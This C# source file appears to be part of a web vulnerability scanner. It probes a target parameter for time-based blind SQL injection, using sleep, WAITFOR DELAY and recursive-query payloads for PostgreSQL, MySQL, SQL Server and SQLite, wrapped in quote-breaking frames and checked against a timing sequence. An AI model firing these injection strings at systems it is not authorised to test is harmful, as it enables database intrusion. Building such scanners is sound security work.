using System.Globalization;
using Assay.Probe.Transport;

namespace Assay.Probe.Probes.Database;

/// <summary>The database waits as long as it is told to.</summary>
internal static class SqlByTime
{
    private static readonly TimeSpan Slowest = TimeSpan.FromSeconds(0.7);

    // Each delay stands in a subquery of its own, so that it happens once and not for every row.
    private static readonly (string Database, string Condition)[] Sleeps =
    [
        ("PostgreSQL", "(SELECT 1 FROM pg_sleep({0})) IS NULL"),
        ("MySQL", "(SELECT 1 FROM (SELECT SLEEP({0}))x)=2"),
    ];

    private static readonly string[] Frames = ["{0}' OR {1}-- ", "{0}') OR {1}-- ", "{0} OR {1}-- "];

    public static async Task<SqlProof?> TryAsync(SqlTarget target)
    {
        if (target.Control.Answer.Elapsed > Slowest)
        {
            return null;
        }

        foreach (var frame in Frames.Where(f => target.IsNumeric || f.Contains('\'')))
        {
            foreach (var (database, condition) in Sleeps)
            {
                if (await SleepsAsync(target, d => string.Format(CultureInfo.InvariantCulture, frame, target.Value, string.Format(CultureInfo.InvariantCulture, condition, d)), database) is { } proof)
                {
                    return proof;
                }
            }

            if (await SleepsAsync(target, d => WaitFor(frame, target.Value, d), "SQL Server") is { } waited)
            {
                return waited;
            }

            if (await WorksAsync(target, n => string.Format(CultureInfo.InvariantCulture, frame, target.Value, $"(WITH RECURSIVE c(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM c LIMIT {n}) SELECT COUNT(*) FROM c)=2")) is { } worked)
            {
                return worked;
            }
        }

        return null;
    }

    private static string WaitFor(string frame, string value, double seconds)
    {
        var head = frame[..frame.IndexOf(" OR", StringComparison.Ordinal)].Replace("{0}", value, StringComparison.Ordinal);
        return string.Create(CultureInfo.InvariantCulture, $"{head};WAITFOR DELAY '0:0:{seconds:00}'-- ");
    }

    private static async Task<SqlProof?> SleepsAsync(SqlTarget target, Func<double, string> text, string database)
    {
        if (!await TakesAsync(target, text(1), 0.9))
        {
            return null;
        }

        // None, long, none, short: a busy server does not follow this.
        if (await TakesAsync(target, text(0), 0.7) || !await TakesAsync(target, text(3), 2.8) || await TakesAsync(target, text(0), 0.7))
        {
            return null;
        }

        var attack = await target.SendAsync(text(2));
        return attack.Answer.Elapsed >= TimeSpan.FromSeconds(1.9)
            ? new SqlProof(attack, $"{database} waited 1, 3 and 2 seconds as it was told, and not at all in between")
            : null;
    }

    // SQLite cannot wait, but it can be made to work: four times the work takes much longer.
    private static async Task<SqlProof?> WorksAsync(SqlTarget target, Func<long, string> text)
    {
        const long some = 1_000_000;
        var first = await target.SendAsync(text(some));
        var quick = await target.SendAsync(text(1));
        if (first.Answer.Elapsed < TimeSpan.FromMilliseconds(100) || first.Answer.Elapsed < quick.Answer.Elapsed * 4)
        {
            return null;
        }

        var more = await target.SendAsync(text(4 * some));
        var quickAgain = await target.SendAsync(text(1));
        return more.Answer.Elapsed > first.Answer.Elapsed * 2 && more.Answer.Elapsed > TimeSpan.FromMilliseconds(300)
            && quickAgain.Answer.Elapsed * 4 < first.Answer.Elapsed && more.Answer.Failure == SendFailure.None
            ? new SqlProof(more, $"the database worked {first.Answer.Elapsed.TotalMilliseconds:N0} ms and, told to do four times as much, {more.Answer.Elapsed.TotalMilliseconds:N0} ms; with nothing to do it took {quickAgain.Answer.Elapsed.TotalMilliseconds:N0} ms")
            : null;
    }

    private static async Task<bool> TakesAsync(SqlTarget target, string text, double seconds) =>
        await target.SendAsync(text) is { Answer: { Failure: SendFailure.None } answer } && answer.Elapsed >= TimeSpan.FromSeconds(seconds);
}
